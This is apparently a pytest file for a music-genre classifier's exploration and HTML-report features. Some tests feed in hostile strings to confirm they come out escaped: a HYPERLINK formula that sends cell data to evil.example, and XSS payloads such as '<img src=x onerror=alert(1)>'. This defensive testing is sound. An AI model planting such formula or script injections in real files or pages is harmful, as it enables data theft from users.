"""Exploration and the HTML report on gtzan-mini, rendered in headless Chromium."""

import html
import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

from genrekit.cli.main import EXIT_OK, app
from genrekit.datasets import build_feature_table, load_gtzan
from genrekit.evaluate.explore import explore
from genrekit.features import FeatureCache, FeatureSpec
from conftest import browser_temp_folder, missing  # noqa: E402

runner = CliRunner()


@pytest.fixture(scope="module")
def table(gtzan_mini, feature_cache):
    table, _ = build_feature_table(load_gtzan(gtzan_mini), FeatureSpec("fma518"), cache=FeatureCache(feature_cache),
                                   progress=False)
    return table


def test_explore_metrics_and_plots_are_seeded(table, tmp_path):
    result = explore(table, seed=0, n_repeats=2, out_dir=tmp_path)
    ratios = np.array(result["pca"]["explained_variance_ratio"])
    assert np.all(ratios >= 0) and ratios.sum() <= 1 + 1e-9 and np.all(np.diff(ratios) <= 1e-12)
    kmeans = result["kmeans"]
    assert kmeans["k"] == 10 and -1 <= kmeans["adjusted_rand_index"] <= 1 and -1 <= kmeans["silhouette"] <= 1
    assert kmeans["adjusted_rand_index"] > 0.1  # genres do cluster in fma518 space, well above chance (0)
    assert sum(sum(row.values()) for row in kmeans["contingency"].values()) == 80
    importance = result["importance"]
    assert len(importance["top"]) == 20 and importance["top"][0]["mean"] >= importance["top"][-1]["mean"]
    # GTZAN's clips held out by track share artists with those fitted on: said, in explore.json too
    assert "GTZAN names no artists" in result["held_out_caveat"]
    assert "permutation importance's held-out quarter" in result["held_out_caveat"]
    for name in ("pca.png", "tsne.png", "kmeans.png", "importance.png", "explore.json", "embedding.csv",
                 "importance.csv", "clusters.csv"):
        assert (tmp_path / name).stat().st_size > 0, name
    assert json.loads((tmp_path / "explore.json").read_text())["held_out_caveat"] == result["held_out_caveat"]
    again = explore(table, seed=0, n_repeats=2, tsne=False)
    assert again["kmeans"] == kmeans and again["importance"] == importance
    # a feature named like a formula (a table from elsewhere names its columns) is text in importance.csv
    from dataclasses import replace

    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    top = importance["top"][0]["feature"]
    renamed = replace(table, columns=[evil if c == top else c for c in table.columns])
    explore(renamed, seed=0, n_repeats=2, tsne=False, out_dir=tmp_path / "evil")
    cells = (tmp_path / "evil" / "importance.csv").read_text()
    assert "'" + evil.replace('"', '""') in cells and "\n=" not in cells and ",=" not in cells, cells[:300]


def test_importance_shortcut_equals_shuffling_the_raw_features(table):
    """explore shuffles the transformed columns (the scaling is per column): the same drops as
    shuffling the raw features and running the whole pipeline."""
    from dataclasses import replace

    from sklearn.inspection import permutation_importance

    from genrekit.datasets import train_val_test_split
    from genrekit.evaluate.explore import _importance
    from genrekit.models import make_model

    small = replace(table, X=table.X[:, :40], columns=table.columns[:40])
    ours = _importance(small, model="logreg", seed=3, n_repeats=2, top=40)
    tracks = small.track_frame()
    parts = np.array(train_val_test_split(tracks["y"].to_numpy(), tracks["group"].to_numpy(), sizes=(0.75, 0.0, 0.25), seed=3))
    test = np.isin(small.tracks, tracks["track"].to_numpy()[parts == "test"])
    fitted = make_model("logreg", seed=3).fit(small.X[~test], small.y[~test])
    reference = permutation_importance(fitted, small.X[test], small.y[test], n_repeats=2, random_state=3, scoring="accuracy")
    drops = {row["feature"]: row["mean"] for row in ours["top"]}
    assert len(drops) == 40 and max(drops.values()) > 0
    for column, mean in zip(small.columns, reference.importances_mean):
        assert drops[column] == pytest.approx(mean, abs=1e-12), column


@pytest.fixture(scope="module")
def run_with_report(tmp_path_factory, gtzan_mini, feature_cache):
    run = tmp_path_factory.mktemp("run")
    args = ["--cache", str(feature_cache)]
    # --no-cv: train's k-fold CV over all tracks is tested in test_interface, and the report does not show it
    train = ["train", str(gtzan_mini), "--model", "logreg", "--no-cv", "--out", str(run), *args]
    assert runner.invoke(app, train).exit_code == EXIT_OK
    result = runner.invoke(app, ["explore", str(gtzan_mini), "--out", str(run / "explore"), "--no-tsne", *args])
    assert result.exit_code == EXIT_OK, result.output
    result = runner.invoke(app, ["report", str(run)])
    assert result.exit_code == EXIT_OK, result.output
    return run


def test_report_is_self_contained(run_with_report):
    page = (run_with_report / "report.html").read_text()
    metrics = json.loads((run_with_report / "metrics.json").read_text())
    assert f"Held-out track accuracy {metrics['accuracy']:.1%}" in page
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    assert not re.search(r"""(src|href)=["']?(https?:)?//""", page)  # nothing fetched from anywhere
    assert page.count("<img ") == 4  # confusion matrix; PCA, k-means, importance (no t-SNE asked)
    assert "Most confidently wrong tracks" in page and "data:audio/ogg;base64," in page
    # how the test tracks were held out, in the run's words (the schema dropped it: "Split: random, seed 0")
    protocol = html.escape(metrics["protocol"])
    assert metrics["protocol"].startswith("random split by track") and page.count(protocol) == 2
    # explore's importance, measured on GTZAN clips held out by track, is called optimistic
    assert html.escape("the permutation importance's held-out quarter") in page


def test_report_renders_in_headless_chromium(run_with_report, tmp_path, keep_artifact):
    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    if browser is None:
        missing("Debian's chromium is not installed (apt-get install chromium; the README's test command "
                    "installs it where it can)")
    page = (run_with_report / "report.html").as_uri()
    flags = [browser, "--headless", "--no-sandbox", "--disable-gpu", "--hide-scrollbars"]
    screenshot = tmp_path / "report.png"
    with browser_temp_folder() as env:
        dom = subprocess.run([*flags, "--virtual-time-budget=10000", "--dump-dom", page],
                             capture_output=True, text=True, timeout=120, env=env).stdout
        subprocess.run([*flags, "--window-size=1200,3000", f"--screenshot={screenshot}", page],
                       capture_output=True, timeout=120, check=True, env=env)
    body = re.search(r"<body[^>]*>", dom).group(0)
    images, loaded = (int(re.search(rf'data-{name}="(\d+)"', body).group(1)) for name in ("images", "images-loaded"))
    assert images == 4 and loaded == images, body
    assert screenshot.stat().st_size > 50_000  # a rendered page, not a blank one
    keep_artifact(screenshot)  # for a look, where $GENREKIT_TEST_ARTIFACTS names a folder


def test_predictions_csv_names_local_files_wherever_the_report_is_made_from(tmp_path, monkeypatch):
    """An audit (2026-12-06): a manifest given by a relative name left relative paths in
    predictions.csv, so a report made from another folder found no file there (no excerpt,
    without a word) or another file of that name. Local paths are written absolute; URLs and
    empty cells as they are."""
    import pandas as pd

    from genrekit.evaluate import evaluation_metrics
    from genrekit.evaluate.report import write_evaluation

    monkeypatch.chdir(tmp_path)
    metrics = evaluation_metrics(np.array([0, 1]), np.array([[0.9, 0.1], [0.2, 0.8]]), np.array(["a", "b"]),
                                 ["jazz", "rock"], chunked=False)
    frame = pd.DataFrame({"track_id": ["a", "b", "c"], "path": ["songs/a.wav", "s3://bucket/b.mp3", ""],
                          "true": ["jazz"] * 3, "predicted": ["jazz"] * 3, "confidence": [0.9] * 3})
    written = write_evaluation(metrics, "out", predictions=frame)
    paths = pd.read_csv(written["predictions.csv"], keep_default_na=False)["path"].tolist()
    assert paths == [str(tmp_path / "songs" / "a.wav"), "s3://bucket/b.mp3", ""]


def test_report_of_a_comparison(tmp_path, feature_table):
    out = tmp_path / "compare"
    result = runner.invoke(app, ["compare", "--table", str(feature_table), "--models", "logreg,knn", "--folds", "3",
                                 "--jobs", "1", "--out", str(out)])
    assert result.exit_code == EXIT_OK, result.output
    assert runner.invoke(app, ["report", str(out)]).exit_code == EXIT_OK
    page = (out / "report.html").read_text()
    assert "<h1>genrekit compare</h1>" in page and "3-fold CV by track" in page and page.count("<img ") == 1


def test_report_names_a_folder_without_results(tmp_path):
    result = runner.invoke(app, ["report", str(tmp_path)])
    assert result.exit_code == 1 and "no genrekit results found" in result.output
    # a features run is named as such (its run.json "was corrupt": dataset, expected an object; an audit, 2026-12-06)
    (tmp_path / "run.json").write_text('{"command": "features", "dataset": "gtzan"}')
    result = runner.invoke(app, ["report", str(tmp_path)])
    assert result.exit_code == 1 and "the run of `genrekit features` (a feature table); a report shows" in " ".join(
        result.output.split())


def test_report_never_writes_over_a_file_that_is_not_a_page(run_with_report):
    """An audit (2026-12-06): `report RUN --out RUN/model.genrekit` replaced the model with HTML."""
    from genrekit.errors import ParameterError
    from genrekit.evaluate.html import write_html_report

    model = run_with_report / "model.genrekit"
    before = model.read_bytes() if model.exists() else None
    result = runner.invoke(app, ["report", str(run_with_report), "--out", str(model)])
    assert result.exit_code == 2 and "expected an .html file name (or a folder), found .genrekit" in " ".join(
        result.output.split())
    with pytest.raises(ParameterError, match=r"expected an \.html file name \(or a folder\), found \.json"):
        write_html_report(run_with_report, run_with_report / "metrics.json")
    assert (model.read_bytes() if model.exists() else None) == before
    (run_with_report / "notes").write_text("my notes")  # no extension: a new name is a page's, a file there is not
    with pytest.raises(ParameterError, match=r"a file that is not an HTML page is there"):
        write_html_report(run_with_report, run_with_report / "notes")
    assert (run_with_report / "notes").read_text() == "my notes"
    write_html_report(run_with_report, run_with_report / "page")
    write_html_report(run_with_report, run_with_report / "page")  # its own page, written again


@pytest.mark.parametrize("text, why", [("[" * 100_000, "nested too deeply"), ("{'a': 1}", "Expecting property name")])
def test_report_names_a_damaged_results_file(tmp_path, text, why):
    (tmp_path / "comparison.json").write_text(text)
    result = runner.invoke(app, ["report", str(tmp_path)])
    assert result.exit_code == 1 and "comparison.json: expected a genrekit results file (JSON), cannot read it" in \
        result.output and why in result.output, result.output
    assert "Traceback" not in result.output


def test_genre_names_are_text_in_the_report(tmp_path):
    """A genre comes from a folder, a manifest or a tag: "<svg onload=...>" must not become markup,
    and "NA" or "null" must not become a missing value (which made right tracks count as wrong)."""
    from genrekit.evaluate import evaluation_metrics
    from genrekit.evaluate.html import write_html_report
    from genrekit.evaluate.report import write_evaluation
    from genrekit.evaluate.run import track_predictions

    labels = ["<svg onload=alert(1)>", "NA", "null", "R|B"]
    y, tracks = np.array([0, 0, 1, 2, 3]), np.array(["a", "b", "c", "d", "e"])
    proba = np.array([[0.9, 0.05, 0.05, 0], [0.1, 0.8, 0.1, 0], [0.2, 0.7, 0.1, 0], [0.1, 0.1, 0.8, 0],
                      [0, 0, 0.1, 0.9]])  # b is wrong
    metrics = evaluation_metrics(y, proba, tracks, labels, chunked=False)
    write_evaluation(metrics, tmp_path, title="t", predictions=track_predictions(tracks, y, proba, labels))
    page = write_html_report(tmp_path).read_text()
    assert "<svg" not in page and "&lt;svg onload=alert(1)&gt;" in page
    assert "Most confidently wrong tracks (1 wrong of 5)" in page and "<td>b</td>" in page
    # Markdown: every row of a table has as many cells as its header ("R|B" escaped)
    for table in (tmp_path / "metrics.md").read_text().split("\n\n"):
        rows = [line for line in table.splitlines() if line.startswith("|")]
        assert len({line.replace("\\|", "").count("|") for line in rows}) <= 1, table


def test_the_report_of_a_run_that_held_nothing_out_leads_with_its_cross_validation(tmp_path):
    """train --split all scores by k-fold CV alone (cv.json, no metrics.json): the report's
    verdict is that CV, its protocol, spread and weakest genres (it showed none of it before
    2026-12-04)."""
    from genrekit._files import write_json
    from genrekit.datasets import FeatureTable
    from genrekit.evaluate.html import write_html_report
    from genrekit.train.classical import small_dataset_cv

    rng = np.random.default_rng(0)
    y = np.repeat(np.arange(3), 10)
    X = rng.normal(size=(30, 4)) + 2.0 * np.eye(3, 4)[y]
    X[y == 2] = rng.normal(size=(10, 4))  # the third genre like noise: the weakest
    tracks = np.array([f"t{i}" for i in range(30)])
    table = FeatureTable(X=X, y=y, tracks=tracks, groups=tracks, labels=["ambient", "polka", "drone"],
                         columns=["a", "b", "c", "d"])
    cv = small_dataset_cv(table, "logreg", n_jobs=1, any_size=True)
    write_json(tmp_path / "cv.json", cv)
    write_json(tmp_path / "run.json", {"command": "train", "model": "logreg", "split": {"method": "all"}})
    page = write_html_report(tmp_path).read_text()
    text = " ".join(re.sub(r"<[^>]+>", " ", page).split())
    assert f"Cross-validated accuracy {cv['accuracy_mean']:.1%} ± {cv['accuracy_std']:.1%} over 5 folds of 30 tracks" \
        in text, text
    assert cv["protocol"] in text and "Lowest recall: " in text
    weakest = min(cv["per_genre"], key=lambda g: cv["per_genre"][g]["recall"])
    assert f"Lowest recall: {weakest} " in text
    assert page.index("Cross-validation") < page.index("Configuration")  # the verdict leads
    assert "<details><summary>the settings as recorded (JSON)</summary><pre>" in page  # folded: for reproducing


def test_results_files_are_strict_json_and_the_report_shows_a_missing_figure_as_a_dash(tmp_path):
    """JSON has no NaN: a metric with nothing to measure is written as null, which JavaScript
    and jq can read, and the report shows it as "–"."""
    from genrekit._files import write_json
    from genrekit.evaluate import evaluation_metrics
    from genrekit.evaluate.html import write_html_report
    from genrekit.evaluate.report import write_evaluation

    def strict(text: str):
        return json.loads(text, parse_constant=lambda name: pytest.fail(f"{name} in a results file"))

    path = write_json(tmp_path / "values.json", {"nan": float("nan"), "inf": np.float32("inf"),
                                                 "row": np.array([np.nan, 2.0]), "kept": [1.5, None, "NaN"]})
    assert strict(path.read_text()) == {"nan": None, "inf": None, "row": [None, 2.0], "kept": [1.5, None, "NaN"]}
    labels = ["jazz", "rock"]
    metrics = evaluation_metrics(np.array([0, 1]), np.array([[0.9, 0.1], [0.2, 0.8]]), np.array(["a", "b"]), labels,
                                 chunked=False)
    metrics["f1_macro"], metrics["per_genre"]["rock"]["f1"] = float("nan"), float("nan")
    write_evaluation(metrics, tmp_path / "run", title="t")
    written = strict((tmp_path / "run" / "metrics.json").read_text())
    assert written["f1_macro"] is None and written["per_genre"]["rock"]["f1"] is None
    page = write_html_report(tmp_path / "run").read_text()
    assert "macro F1 –," in page and "Weakest genres (F1): rock –" in page


def test_the_report_of_an_evaluation_says_what_it_scored_and_what_it_left_out(tmp_path, gtzan_mini, corrupted_file):
    """--include-train is said (the accuracy is not held-out), genres absent from the data are
    not 'weakest', the files evaluate left out are listed, and the dataset scored is named in
    run.json and the report's title (metrics.md's title alone named it)."""
    from genrekit.evaluate.html import write_html_report

    data = tmp_path / "data"
    (data / "jazz").mkdir(parents=True)
    (data / "polka").mkdir()
    for path in sorted((gtzan_mini / "jazz").iterdir())[:2]:
        shutil.copy(path, data / "jazz" / path.name)
    shutil.copy(next((gtzan_mini / "rock").iterdir()), data / "polka" / "rock.00000.au")
    shutil.copy(corrupted_file, data / "jazz" / "jazz.00054.wav")
    result = CliRunner().invoke(app, ["evaluate", "default", str(data), "--out", str(tmp_path / "run"),
                                      "--include-train", "--jobs", "1"])
    assert result.exit_code == 3, result.output  # partial: a corrupt file and an unknown genre
    page = write_html_report(tmp_path / "run").read_text()
    scored = json.loads((tmp_path / "run" / "run.json").read_text())["dataset"]
    assert scored["name"] == "gtzan" and scored["source"] == str(data) and scored["n_tracks"] == 3
    assert f"<title>genrekit evaluate: musicnn-prior on gtzan ({data})</title>" in page
    assert "training tracks included" in page and "Held-out" not in page
    assert "jazz.00054.wav" in page and "polka" in page
    # jazz, the only genre scored, is right on both clips: not weak, and absent genres neither
    assert "Every genre scored has F1 1.00." in page and "Weakest genres" not in page


def test_explore_refuses_a_table_too_small_to_hold_tracks_out(tmp_path):
    """Two tracks per genre: a quarter held out is none, and explore ended in scikit-learn's
    'Found array with 0 sample(s)'."""
    from genrekit.datasets import FeatureTable
    from genrekit.errors import ParameterError

    tracks = np.array(["a", "b", "c", "d"])
    table = FeatureTable(X=np.random.default_rng(0).normal(size=(4, 5)), y=np.array([0, 0, 1, 1]), tracks=tracks,
                         groups=tracks.copy(), labels=["jazz", "rock"], columns=[f"f{i}" for i in range(5)])
    with pytest.raises(ParameterError, match="at least 3 tracks"):
        explore(table, seed=0)


def test_report_csvs_keep_spreadsheets_from_running_file_text_and_the_html_report_reads_it_back(tmp_path):
    """Track ids, paths and genre names come from the user's files: a cell a spreadsheet would run
    as a formula gets a leading ' in predictions.csv, and the HTML report shows the text as it was."""
    import pandas as pd

    from genrekit.evaluate import evaluation_metrics, write_evaluation
    from genrekit.evaluate.html import write_html_report

    labels = ["=HYPERLINK(\"http://x\")", "rock"]
    y, proba = np.array([0, 1, 0, 1]), np.array([[0.9, 0.1], [0.2, 0.8], [0.3, 0.7], [0.6, 0.4]])
    metrics = evaluation_metrics(y, proba, np.arange(4), labels, chunked=False)
    predictions = pd.DataFrame({"track_id": ["+1", "b", "c", "@d"], "path": ["-a.wav", "/b.wav", "/c.wav", "/d.wav"],
                                "true": [labels[i] for i in y], "predicted": [labels[i] for i in proba.argmax(1)],
                                "confidence": proba.max(1)})
    write_evaluation(metrics, tmp_path, predictions=predictions)
    rows = (tmp_path / "predictions.csv").read_text().splitlines()
    # a local path is written absolute (never a formula: it starts with /)
    assert rows[1].startswith(f"'+1,{os.path.abspath('-a.wav')},\"'=HYPERLINK(") and \
        rows[4].startswith("'@d,/d.wav,rock,\"'=HYPERLINK("), rows
    page = write_html_report(tmp_path).read_text()
    wrong = page[page.index("Most confidently wrong"):]
    assert "<td>@d</td>" in wrong and "<td>=HYPERLINK(&quot;http://x&quot;)</td>" in wrong, wrong
    assert "&#x27;@d" not in wrong and "&#x27;=HYPERLINK" not in wrong, wrong


def test_the_report_says_when_its_averages_count_absent_genres_and_when_its_split_shares_artists(tmp_path):
    """Three genres scored by a model of four, one of its errors a fourth genre none of the
    tracks holds: scikit-learn's macro averages count that genre (F1 0) while balanced
    accuracy does not, and metrics.md and the report now say so beside the figures (a macro
    recall of 0.269 sat unexplained beside a balanced accuracy of 0.808). A dataset's own
    split with an artist on two sides is called optimistic, not held-out."""
    from genrekit.evaluate import evaluation_metrics
    from genrekit.evaluate.report import write_evaluation
    from genrekit.evaluate.html import write_html_report

    labels = ["blues", "classical", "jazz", "rock"]
    y = np.array([1, 1, 2, 2, 3, 3])
    proba = np.eye(4)[[1, 1, 2, 0, 3, 3]] * 0.9 + 0.025  # one jazz track called blues
    metrics = evaluation_metrics(y, proba, np.array(list("abcdef")), labels, chunked=False)
    write_evaluation(metrics, tmp_path / "run", title="t")
    note = ("count the 1 genre(s) predicted but held by none of these tracks (blues), with F1 0; balanced accuracy "
            "averages recall over the 3 genre(s) the tracks hold")
    assert note in (tmp_path / "run" / "metrics.md").read_text()
    (tmp_path / "run" / "run.json").write_text(json.dumps({"split": {"method": "dataset", "seed": 0,
                                                                      "artists_across_splits": ["A", "B"],
                                                                      "copies_across_splits": []}}))
    page = write_html_report(tmp_path / "run").read_text()
    assert note in page and "Held-out" not in page
    assert "Test-track accuracy" in page and "puts 2 artist(s) and 0 song(s) with a copy on two sides" in page
    from genrekit.evaluate.metrics import averaging_note

    assert averaging_note(evaluation_metrics(np.array([0, 1]), np.eye(2), np.array(["a", "b"]), ["x", "y"],
                                             chunked=False)) is None


def test_dollar_signs_in_genres_and_file_names_are_drawn_as_written(tmp_path):
    """matplotlib reads "$...$" as mathtext: a genre "$_$ trap" made every plot, and so
    evaluate and train, fail part-way through writing their results."""
    from matplotlib.text import Text

    from genrekit._files import save_figure
    from genrekit.evaluate.metrics import classification_scores
    from genrekit.evaluate.report import plot_confusion

    labels = ["$_$ trap", "a$\\x$", "Ke$ha & $uicide"]
    scores = classification_scores(np.array([0, 1, 2, 0]), np.eye(3)[[0, 1, 2, 1]], labels)
    assert plot_confusion(scores, tmp_path / "confusion.png", title="run $x$").stat().st_size > 0

    import matplotlib.pyplot as plt

    figure, axis = plt.subplots()
    axis.set_title("$\\frac{")  # mathtext that cannot be parsed
    save_figure(figure, tmp_path / "title.png")
    assert not any(text.get_parse_math() for text in figure.findobj(Text))


def test_full_song_counts_are_whole_numbers_in_the_report(tmp_path):
    from genrekit.evaluate.html import write_html_report

    per_genre = {"jazz": {"n": 3, "top1": 0.667, "top3": 1.0, "proportion_score": 0.5},
                 "rock": {"n": 1, "top1": 1.0, "top3": 1.0, "proportion_score": 0.9}}
    (tmp_path / "songs.json").write_text(json.dumps({"n": 4, "top1": 0.75, "top3": 1.0, "proportion_score": 0.6,
                                                      "per_genre": per_genre}))
    page = write_html_report(tmp_path).read_text()
    assert "<td>jazz</td><td>3</td>" in page and "<td>3.000</td>" not in page
    assert "top-1 0.750, top-3" in page  # a songs.json from before its interval
    (tmp_path / "songs.json").write_text(json.dumps({"n": 4, "top1": 0.75, "top1_ci95": [0.3006, 0.9544], "top3": 1.0,
                                                      "proportion_score": 0.6, "per_genre": per_genre}))
    assert "top-1 0.750 (95% interval 0.301-0.954), top-3" in write_html_report(tmp_path).read_text()


def test_the_verdict_shows_balanced_accuracy_and_what_always_naming_the_largest_genre_scores(tmp_path):
    """90 rock tracks of 100 and a model that always says rock: the report read "accuracy 90.0%
    (chance: 25%)", and balanced accuracy (0.25) appeared nowhere."""
    from genrekit.evaluate import evaluation_metrics
    from genrekit.evaluate.html import write_html_report
    from genrekit.evaluate.report import write_evaluation

    labels = ["blues", "jazz", "pop", "rock"]
    y = np.array([3] * 90 + [0] * 4 + [1] * 3 + [2] * 3)
    metrics = evaluation_metrics(y, np.tile(np.eye(4)[3], (100, 1)), np.array([f"t{i}" for i in range(100)]), labels,
                                 chunked=False)
    write_evaluation(metrics, tmp_path / "run", title="t")
    page = write_html_report(tmp_path / "run").read_text()
    assert ("Held-out track accuracy 90.0%</b> on 100 tracks (95% interval 82.6%-94.5%, the tracks taken as "
            "independent; chance: 25%; always naming the largest genre: 90%)") in page
    assert "<b>balanced accuracy 25.0%</b>" in page


def test_the_full_song_report_says_whether_training_songs_were_scored_and_what_was_skipped(tmp_path):
    """evaluate --songs --include-train scored training songs, and the report's Full songs
    section said nothing of it (nor of the intro and outro left out)."""
    from genrekit.evaluate.html import write_html_report

    per_genre = {"rock": {"n": 2, "top1": 1.0, "top3": 1.0, "proportion_score": 0.9}}
    songs = {"n": 2, "top1": 1.0, "top3": 1.0, "proportion_score": 0.9, "per_genre": per_genre, "skip": 10.0}
    for run, words in (({"include_train": True}, "2 songs (training songs included; 10 s of intro and outro"),
                       ({"include_train": False, "excluded_training_tracks": ["a", "b", "c"]},
                        "2 songs (3 training song(s) left out; 10 s"),
                       ({"training_tracks_unknown": True}, "training songs may be included: the model does not list"),
                       ({}, "2 songs (none of them a training song; 10 s")):
        (tmp_path / "songs.json").write_text(json.dumps(songs))
        (tmp_path / "run.json").write_text(json.dumps({"command": "evaluate --songs", **run}))
        assert words in write_html_report(tmp_path).read_text(), run
    # the scores are said in words (the page showed a bare "proportion_score" column)
    assert "Proportion score: the share of the song's analysed time whose genre is its own" \
        in write_html_report(tmp_path).read_text()


def _small_table(path, genres: dict[str, int], columns: int = 4, constant: int = 0):
    """A published-style feature table: ``genres`` -> tracks, columns of noise (and constant ones)."""
    from genrekit.datasets import read_feature_table

    rng = np.random.default_rng(0)
    names = [f"f{i}" for i in range(columns)] + [f"c{i}" for i in range(constant)]
    rows = [",".join(["filename", "length", *names, "label"])]
    for g, (genre, n) in enumerate(genres.items()):
        for k in range(n):
            values = [*(rng.normal(size=columns) + 3 * g), *([1.0] * constant)]
            rows.append(",".join([f"{genre}.{k:05d}.wav", "661794", *map(str, values), genre]))
    path.write_text("\n".join(rows) + "\n")
    return read_feature_table(path)


def test_explore_leaves_constant_columns_out_and_refuses_a_table_with_fewer_than_two_that_vary(tmp_path):
    from genrekit.errors import ParameterError

    result = explore(_small_table(tmp_path / "t.csv", {"a": 6, "b": 6}, constant=2), n_repeats=2, tsne=False,
                     source="t.csv")
    assert result["n_features"] == 4 and result["constant_columns_left_out"] == ["c0", "c1"]
    # what was explored, for the figure's caption
    assert (result["source"], result["rows_are"], result["held_out_grouping"], result["tsne"]) == (
        "t.csv", "tracks (one row each)", "by track", False)
    assert result["held_out_caveat"] is None  # not GTZAN's clips
    assert np.isfinite(result["pca"]["explained_variance_ratio"]).all()
    with pytest.raises(ParameterError, match="at least 2 feature columns that vary; the table has 1 \\(of 3\\)"):
        explore(_small_table(tmp_path / "one.csv", {"a": 6, "b": 6}, columns=1, constant=2), tsne=False)


def test_explore_does_not_rank_features_it_could_not_measure_and_clears_an_earlier_runs_plots(tmp_path):
    """One held-out track of one genre: shuffling a feature can change nothing, and the first
    column was named the top feature (all zeros, in column order)."""
    out = tmp_path / "out"
    explore(_small_table(tmp_path / "t.csv", {"a": 8, "b": 8}), n_repeats=2, out_dir=out)
    assert (out / "tsne.png").exists() and (out / "importance.png").exists()
    result = explore(_small_table(tmp_path / "few.csv", {"a": 3, "b": 1, "c": 1}), n_repeats=2, tsne=False,
                     out_dir=out)
    importance = result["importance"]
    assert importance["top"] == [] and "too few for shuffling a feature" in importance["not_measured"]
    assert not (out / "tsne.png").exists() and not (out / "importance.png").exists()  # the other table's, gone


def test_explore_refuses_a_model_made_for_columns_the_table_lacks(tmp_path):
    _small_table(tmp_path / "t.csv", {"a": 6, "b": 6})
    result = runner.invoke(app, ["explore", "--table", str(tmp_path / "t.csv"), "--out", str(tmp_path / "out"),
                                 "--model", "musicnn-prior"])
    assert result.exit_code == 2 and "--model musicnn-prior: made for musicnn features" in " ".join(result.output.split())


def test_a_table_with_a_missing_value_names_its_row_and_column(tmp_path):
    from genrekit.datasets import read_feature_table
    from genrekit.errors import DatasetError

    (tmp_path / "t.csv").write_text("filename,length,a,b,label\nx.00000.wav,1,1.0,2.0,jazz\nx.00001.wav,1,,3.0,rock\n")
    with pytest.raises(DatasetError, match="1 missing value\\(s\\) in column\\(s\\) a, the first in column 'a' at data "
                                           "row 2; expected a number in every feature cell"):
        read_feature_table(tmp_path / "t.csv")


# --- results files of another shape: anyone can edit a run folder -------------------------------

# Text that would be markup, a terminal escape, a NUL and a lone surrogate (UTF-8 cannot encode it)
_HOSTILE = "<img src=x onerror=alert(1)>\x1b[2J\x00\ud800"
# What a field becomes: text for a number, a list for an object, null, the key gone, a number far
# out of range, an object nested where a scalar is read
_MUTATIONS = {"text": _HOSTILE, "list": [1, 2], "null": None, "missing": ..., "huge": 1e308,
              "nested": {"a": {"b": 1}}}
_RESULTS_FILES = ("run.json", "metrics.json", "comparison.json", "cv.json", "songs.json", "explore/explore.json")


@pytest.fixture(scope="module")
def every_results_file(run_with_report, tmp_path_factory):
    """A run folder with every results file the report reads, each as genrekit writes it:
    train's run.json, metrics.json and predictions.csv and explore's explore.json (those of
    ``run_with_report``), a comparison's comparison.json, a k-fold CV's cv.json and full-song
    scores (songs.json). The images are left out: the files are what is changed here."""
    from genrekit._files import write_json
    from genrekit.datasets import FeatureTable
    from genrekit.evaluate import compare_models, song_scores
    from genrekit.train.classical import small_dataset_cv

    folder = tmp_path_factory.mktemp("every")
    run = folder / "run"
    for name in ("run.json", "metrics.json", "predictions.csv", "explore/explore.json"):
        (run / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(run_with_report / name, run / name)
    compare_models(_small_table(folder / "t.csv", {"jazz": 6, "rock": 6}), ["logreg", "knn"], n_splits=3, n_jobs=1,
                   out_dir=folder / "compare")
    shutil.copy(folder / "compare" / "comparison.json", run)
    rng = np.random.default_rng(0)
    y = np.repeat(np.arange(3), 6)
    tracks = np.array([f"t{i}" for i in range(18)])
    table = FeatureTable(X=rng.normal(size=(18, 3)) + 2.0 * np.eye(3)[y], y=y, tracks=tracks, groups=tracks,
                         labels=["ambient", "polka", "drone"], columns=["a", "b", "c"])
    write_json(run / "cv.json", small_dataset_cv(table, "logreg", n_jobs=1, any_size=True))
    scores = song_scores(["jazz", "rock", "jazz"], [{"jazz": 0.7, "rock": 0.3}, {"jazz": 0.6, "rock": 0.4},
                                                    {"jazz": 0.2, "rock": 0.8}],
                         [{"jazz": 1.0}, {"jazz": 0.5, "rock": 0.5}, {"rock": 1.0}])
    write_json(run / "songs.json", {"model": "logreg", "skip": 10.0, **scores, "unknown_genre_tracks": [],
                                    "excluded_training_tracks": ["blues.00000"], "failures": {}, "problems": []})
    return run


def _fields(value, where=()):
    """Every field of a JSON value, as a path of keys and indices: a list's first item only, and
    of an object of more than 4 keys of one type (genres, tracks) its first two keys."""
    if isinstance(value, dict):
        keys = list(value)
        if len(keys) > 4 and len({type(v) for v in value.values()}) == 1:
            keys = keys[:2]
        for key in keys:
            yield (*where, key)
            yield from _fields(value[key], (*where, key))
    elif isinstance(value, list) and value:
        yield (*where, 0)
        yield from _fields(value[0], (*where, 0))


def _changed(data, where: tuple, mutation):
    """A copy of ``data`` with the field ``where`` set to ``mutation`` (... removes it; "rename":
    its key becomes hostile text)."""
    data = json.loads(json.dumps(data))
    parent = data
    for key in where[:-1]:
        parent = parent[key]
    if mutation == "rename":
        parent[_HOSTILE] = parent.pop(where[-1])
    elif mutation is ...:
        parent.pop(where[-1])
    else:
        parent[where[-1]] = mutation
    return data


def _report_problem(run, name: str, where: tuple, **options) -> str | None:
    """What is wrong with the report of ``run`` (its ``name`` changed at ``where``): None where
    it is a page with nothing of the hostile text as markup or raw, or a ParameterError naming
    the file and the field (a key of ``where``) without raw control characters."""
    from genrekit.errors import ParameterError
    from genrekit.evaluate.html import write_html_report

    try:
        page = write_html_report(run, **options).read_text(encoding="utf-8")
    except ParameterError as exc:
        message = str(exc)
        if Path(name).name not in message:
            return f"the error does not name the file: {message}"
        keys = [str(k) for k in where if isinstance(k, str) and k != _HOSTILE]
        if keys and not any(k in message for k in keys):
            return f"the error names no field of {where}: {message}"
        if re.search("[\x00-\x1f\ud800-\udfff]", message):
            return f"raw control characters in the error: {message!r}"
        return None
    except Exception as exc:  # noqa: BLE001  (what the test is for)
        return f"{type(exc).__name__}: {exc}"
    if "<img src=x" in page or re.search("[\x00-\x08\x1b]", page):
        return "hostile text in the page as markup or raw"
    if "default-src 'none'" not in page:
        return "the page lost its content security policy"
    return None


@pytest.mark.parametrize("name", _RESULTS_FILES)
def test_a_results_file_of_another_shape_is_refused_by_name_or_its_text_escaped(every_results_file, tmp_path, name):
    """Every field of each results file, changed to text, a list, null, nothing, 1e308 or a
    nested object, or its key renamed to markup with control characters: the report is drawn
    (text escaped) or refused with a ParameterError naming the file and the field. A
    comparison.json row with "accuracy_mean": "high" ended in a TypeError in format()."""
    run = tmp_path / "run"
    shutil.copytree(every_results_file, run)
